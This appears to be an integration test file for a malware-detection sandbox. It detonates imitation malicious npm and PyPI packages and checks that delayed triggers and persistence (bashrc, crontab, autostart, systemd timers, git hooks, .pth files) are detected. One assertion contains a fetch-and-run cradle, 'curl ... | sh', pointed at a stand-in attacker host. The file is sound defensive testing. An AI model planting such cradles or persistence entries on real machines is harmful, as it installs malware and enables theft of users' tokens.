// The execute, idle and next-login phases (issue #16) on imitation malware, detonated the
// production way (sinkhole, canaries, behavior, rules). Each trigger class reaches its own
// indicator (a name under attacker.example) in the phase that started it, with what set it off
// said in the report. Trigger classes share detonations where one package can carry several
// without one hiding another: four detonations cover the eleven classes.
import { randomUUID } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Finding, PhaseName, Report, StagedPackage } from '@vetbox/contracts';
import { detonate } from '@vetbox/pipeline';
import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage } from '@vetbox/sandbox';
import { HOSTS, callsFixture, planterFixture, pythonFixture, timeFixture } from '../fixtures/sandbox/later.js';

const runtime = new DockerRuntime();
const ALL: PhaseName[] = ['install', 'import', 'execute', 'idle', 'next-login'];
const later = { callMs: 3000, executeMs: 15_000, idleWindowMs: 3000, idleSpanS: 86_400 };
let image = '';
const used: string[] = [];
const staged: StagedPackage[] = [];

beforeAll(async () => {
  image = await ensureSandboxImage(runtime, { build: true });
}, 900_000);

afterEach(async () => {
  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
});

afterAll(async () => {
  await Promise.all(staged.map((s) => rm(s.dir, { recursive: true, force: true })));
});

async function run(fixture: Promise<StagedPackage>): Promise<{ report: Report; text: string }> {
  const pkg = await fixture;
  staged.push(pkg);
  const analysisId = `test-later-${randomUUID()}`;
  used.push(analysisId);
  const { report } = await detonate(pkg, { analysisId, image, phases: ALL, later, limits: { graceMs: 1000 } });
  const text = [
    `${pkg.name}: ${report.verdict} ${report.score} — ${report.summary}`,
    ...report.phases.map((p) => `  phase ${p.name}: ${p.status} ${p.reason ?? ''}${p.stderrTail ? `\n    stderr: ${p.stderrTail.slice(-600).replace(/\n/g, '\n    ')}` : ''}`),
    ...report.findings.map((f) => `  ${f.rule}(${f.severity}) [${f.phase}] ${f.title}: ${f.evidence.slice(0, 4).map((e) => e.summary).join(' | ')}`),
    ...report.behavior.network.dns.map((d) => `  dns [${d.phase}] ${d.name}`),
    ...(report.behavior.calls ?? []).map((c) => `  ${c.kind} [${c.phase}] ${c.name}: ${c.outcome} (${c.endMs === null ? '?' : c.endMs - c.startMs} ms)`),
  ].join('\n');
  console.log(text);
  return { report, text };
}

/** The network finding citing `host`: at least high (a suspicious verdict on its own). */
function reached(report: Report, text: string, host: string): Finding {
  const f = report.findings.find((x) => x.rule === 'network-activity' && x.evidence.some((e) => e.summary.includes(host)));
  expect(f, `${host} not reached\n${text}`).toBeDefined();
  expect(['critical', 'high'], text).toContain(f!.severity);
  return f!;
}

const evidenceOf = (f: Finding, host: string) => f.evidence.filter((e) => e.summary.includes(host)).map((e) => e.summary).join('\n');

describe('later phases: imitation triggers reach their payloads', () => {
  it('a payload only in an exported function, and one only in a bin, run in execute and are named', async () => {
    const { report, text } = await run(callsFixture());
    expect(report.verdict, text).toBe('malicious'); // the function sends the npm token canary
    const fn = reached(report, text, HOSTS.exportedFunction);
    expect(fn.phase).toBe('execute');
    expect(evidenceOf(fn, HOSTS.exportedFunction)).toMatch(/calling `loadConfig\(.*\)` of tidy-config/);
    const bin = reached(report, text, HOSTS.bin);
    expect(evidenceOf(bin, HOSTS.bin)).toContain('running `tidy-config`');
    expect(report.canaries.some((c) => c.leaked && c.evidence.some((e) => e.phase === 'execute')), text).toBe(true);
    expect(report.behavior.calls?.some((c) => c.kind === 'bin' && c.name === 'tidy-config --help' && c.outcome === 'exit 0')).toBe(true);
    // install and import never acted
    expect(report.behavior.network.dns.filter((d) => d.phase === 'install' || d.phase === 'import')).toEqual([]);
  }, 600_000);

  it('a child detached at install with a 15-minute timer fires in the idle window; a date gate opens a year ahead', async () => {
    const { report, text } = await run(timeFixture());
    const timer = reached(report, text, HOSTS.detachedTimer);
    expect(timer.phase, text).toBe('install');
    expect(evidenceOf(timer, HOSTS.detachedTimer)).toMatch(/after \d+ (min|h) \(fast clock\)/);
    expect(report.sandbox?.clock?.windowStartMs, text).toBeDefined();
    const gate = reached(report, text, HOSTS.dateGate);
    // Findings group per domain (#21): the lookup itself is the idle phase's.
    expect(report.behavior.network.dns.some((d) => d.phase === 'idle' && d.name === HOSTS.dateGate), text).toBe(true);
    expect(evidenceOf(gate, HOSTS.dateGate)).toContain('date 365 days ahead');
    // The sinkhole kept step: its certificate was valid a year ahead (the request was decrypted)
    // and its Date header said that year.
    expect(report.behavior.network.http.some((h) => h.host.startsWith(HOSTS.dateGate) && h.tls), text).toBe(true);
    const ahead = new Date(Date.now() + 365 * 86_400_000).getUTCFullYear();
    expect(report.phases.find((p) => p.name === 'idle')?.stdoutTail, text).toContain(`date-gate-answer ${ahead}`);
  }, 600_000);

  it('a ~/.bashrc cradle, a crontab entry, an XDG autostart entry, a systemd user timer and a git hook run at the next login', async () => {
    const { report, text } = await run(planterFixture());
    expect(report.verdict, text).toBe('malicious');
    const cases: Array<[string, RegExp]> = [
      [HOSTS.bashrc, /at the next login: login shell: ~\/\.bashrc \(changed during install\)/],
      [HOSTS.crontab, /at the next login: crontab entry/],
      [HOSTS.autostart, /at the next login: XDG autostart entry ~\/\.config\/autostart\/tidy-update\.desktop \(added during install\)/],
      [HOSTS.systemdTimer, /at the next login: systemd user timer ~\/\.config\/systemd\/user\/tidy-sync\.timer/],
      [HOSTS.gitHook, /at the next login: a git commit in ~\/.*: ~\/\.gitconfig \((added|changed) during install\)/],
    ];
    for (const [host, why] of cases) {
      const f = reached(report, text, host);
      expect(f.phase, text).toBe('next-login');
      expect(evidenceOf(f, host), text).toMatch(why);
    }
    // The persistence entry's content is a cradle: malicious on its own, the line shown escaped.
    const cradle = report.findings.find((f) => f.rule === 'persistence-cradle' && f.evidence.some((e) => e.summary.startsWith('~/.bashrc')));
    expect(cradle?.severity, text).toBe('critical');
    expect(cradle?.evidence[0]?.summary).toContain(`"curl -fsS -m 3 http://${HOSTS.bashrc}/s | sh"`);
    const bashrc = report.behavior.contents?.find((c) => c.path.endsWith('/.bashrc'));
    expect(bashrc?.sha256).toMatch(/^[0-9a-f]{64}$/);
  }, 600_000);

  it('PyPI: a .pth hook runs in a fresh interpreter; a new-session process sleeping 20 minutes fires in the idle window', async () => {
    const { report, text } = await run(pythonFixture());
    reached(report, text, HOSTS.pth);
    const sleeper = reached(report, text, HOSTS.sleeper);
    expect(sleeper.phase, text).toBe('install');
    expect(evidenceOf(sleeper, HOSTS.sleeper)).toMatch(/after \d+ (min|h) \(fast clock\)/);
    expect(report.behavior.processes.some((p) => p.phase === 'next-login' && /at the next login: a fresh Python interpreter/.test(p.trigger ?? '')), text).toBe(true);
    // #15: the module, loaded by the import and execute harnesses (and the idle window's import),
    // sees a plain `python3`, no harness path in its argv, __main__ or ps.
    const seen = (['import', 'execute', 'idle'] as const).map((phase) => ({ phase, lines: (report.phases.find((p) => p.name === phase)?.stdoutTail ?? '').split('\n').filter((l) => l.startsWith('tidyconf-sees ')) }));
    expect(seen.filter((x) => x.lines.length === 0).map((x) => x.phase), text).toEqual([]);
    const harness = seen.flatMap((x) => x.lines.filter((l) => /libexec|import-py|execute-py|vetbox/.test(l)).map((l) => `${x.phase}: ${l}`));
    expect(harness, text).toEqual([]);
    // The idle window installs the sdist again with the install phase's own `pip install` (its
    // metadata taken out first, so pip builds it rather than finding it installed), never a
    // `--force-reinstall` a developer does not type.
    const idle = report.phases.find((p) => p.name === 'idle');
    expect(idle?.stdoutTail, text).toMatch(/Successfully installed tidyconf/);
    const pips = report.behavior.processes.filter((p) => p.phase === 'idle' && p.argv.includes('pip') && p.argv.includes('install'));
    expect(pips.length, text).toBeGreaterThan(0);
    expect(pips.filter((p) => p.argv.includes('--force-reinstall')), text).toEqual([]);
  }, 600_000);
});
